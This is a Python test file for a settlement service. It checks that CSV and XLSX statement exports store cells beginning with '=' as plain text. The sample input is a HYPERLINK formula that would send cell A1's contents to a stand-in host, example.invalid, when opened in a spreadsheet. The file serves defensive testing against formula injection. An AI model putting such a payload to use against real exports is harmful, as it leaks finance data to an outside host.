"""Statement exports never hand a spreadsheet a formula: sources are ids the departments chose, and a receipt id
such as =HYPERLINK(...) is a valid id. Opened in Excel, the CSV or XLSX export ran it in the finance office."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from services.settlement.api.statement_exports import csv_lines, csv_totals, xlsx
from services.settlement.domain.lines import LineKind, StatementLine

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"details")'
LINE = StatementLine(line_no=1, kind=LineKind.REVENUE_SHARE, payer="park:P01", payee="township:320612101",
                     amount_fen=12_345, agreement_id="FD-1", agreement_version=1, tax_kind="VAT", month="2026-03",
                     sources=(EVIL, "r-2"), source_count=2)


class _Total:
    party, receivable_fen, payable_fen = "township:320612101", 0, 12_345  # a negative net: a number, kept


def test_csv_cells_that_would_be_formulas_are_text():
    text = b"".join(csv_lines([LINE], "key")).decode("utf-8-sig")
    row = dict(zip(*csv.reader(io.StringIO(text))))
    assert row["sources"] == "'" + EVIL + ";r-2"
    assert row["amount"] == "123.45"
    totals = list(csv.reader(io.StringIO(b"".join(csv_totals([_Total], "key")).decode("utf-8-sig"))))
    assert totals[1][-1] == "-123.45", "our own negative figures stay numbers"


def test_xlsx_cells_that_would_be_formulas_are_text_unchanged():
    wb = load_workbook(io.BytesIO(xlsx({"statement_id": "=1+1"}, [LINE], [_Total], "key")))
    lines = list(wb.worksheets[1].iter_rows(values_only=True))
    cell = wb.worksheets[1].cell(row=2, column=lines[0].index("sources") + 1)
    assert (cell.data_type, cell.value) == ("s", EVIL + ";r-2")
    summary = wb.worksheets[0].cell(row=1, column=2)
    assert (summary.data_type, summary.value) == ("s", "=1+1")
    assert wb.worksheets[2].cell(row=2, column=4).value == "-123.45"
